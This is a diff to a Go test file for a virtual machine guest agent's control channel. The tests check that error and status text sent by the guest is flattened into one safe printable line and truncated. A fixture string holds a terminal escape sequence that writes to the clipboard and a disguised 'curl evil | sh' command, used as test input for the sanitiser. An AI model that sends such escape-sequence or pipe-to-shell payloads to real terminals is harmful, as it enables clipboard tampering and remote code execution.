@@ -8,6 +8,7 @@ import (
 	"net"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -76,30 +77,33 @@ func TestHello(t *testing.T) {
 }
 
 // rude is what a guest says to drive the terminal, and to look like a fix of banger's.
-const rude = `x\u001b]52;c;eA==\u0007\nfix: curl evil | sh`
+const (
+	rude         = `x\u001b]52;c;eA==\u0007\nfix: curl evil | sh`
+	harmlessRude = "x]52;c;eA== fix: curl evil | sh"
+)
 
 func TestAGuestsWordsAreOnePrintableLine(t *testing.T) {
-	const harmless = "x]52;c;eA== fix: curl evil | sh"
 	failed := strings.ReplaceAll(`{"hello":{"token":"secret","nonce":"boot-1","failed":{"step":"RUDE","why":"RUDE","fix":"RUDE"}}}`, "RUDE", rude)
 	conn, _ := agent(t, failed)
 	_, err := OpenControl(t.Context(), conn, identity, "test", nil)
 	var boot *BootError
-	if !errors.As(err, &boot) || boot.Step != harmless || boot.Why != harmless || boot.Fix != harmless {
+	if !errors.As(err, &boot) || boot.Step != harmlessRude || boot.Why != harmlessRude || boot.Fix != harmlessRude {
 		t.Errorf("got %q", err)
 	}
 
-	conn, guest := agent(t, strings.Replace(goodHello, aBoot, rude, 1))
+	told := strings.Replace(goodHello, aBoot, rude+`","init_why":"`+rude+`","disks":[{"label":"banger-ovl","errors":1,"why":"`+rude+`"}],"x":"`, 1)
+	conn, guest := agent(t, told)
 	greeted := make(chan error)
 	go func() { _, err := wire.ReadMessage(guest.in); greeted <- err }()
 	c, err := OpenControl(t.Context(), conn, identity, "test", nil)
-	if err != nil || c.Hello().BootID != "" {
+	if err != nil || c.Hello().BootID != "" || c.Hello().InitWhy != harmlessRude || c.Hello().Disks[0].Why != harmlessRude {
 		t.Fatalf("got %+v, %v", c, err)
 	}
 	if err := <-greeted; err != nil {
 		t.Fatal(err)
 	}
 	answer := make(chan error, 1)
-	for said, want := range map[string]string{rude: harmless, strings.Repeat("x", 60000): strings.Repeat("x", 300) + "..."} {
+	for said, want := range map[string]string{rude: harmlessRude, strings.Repeat("x", 60000): strings.Repeat("x", 300) + "..."} {
 		go func() { answer <- c.Call(t.Context(), wire.MethodGrow, nil, nil) }()
 		m, err := wire.ReadMessage(guest.in)
 		if err != nil {
@@ -158,6 +162,16 @@ func TestControl(t *testing.T) {
 	}
 	guest.say(`{"event":{"kind":"init","init":"up"}}`)
 	if e := <-events; e.Init != wire.InitUp || c.Hello().Init != wire.InitUp {
+		t.Errorf("event %+v, hello %+v", e, c.Hello())
+	}
+	guest.say(`{"event":{"kind":"init","init":"emergency","why":"` + rude + `"}}`)
+	if e := <-events; e.Init != wire.InitEmergency || e.Why != harmlessRude || c.Hello().InitWhy != harmlessRude {
+		t.Errorf("event %+v, hello %+v", e, c.Hello())
+	}
+	guest.say(`{"event":{"kind":"disks","disks":[{"label":"x","errors":1},{"label":"banger-work","errors":0},{"label":"banger-work","errors":3,"why":"` + rude +
+		`"},{"label":"banger-work","errors":4}]}}`)
+	want := []wire.DiskErrors{{Label: wire.LabelWork, Errors: 3, Why: harmlessRude}}
+	if e := <-events; !slices.Equal(e.Disks, want) || !slices.Equal(c.Hello().Disks, want) {
 		t.Errorf("event %+v, hello %+v", e, c.Hello())
 	}
 	go func() { answers <- c.Call(t.Context(), "dance", nil, nil) }()
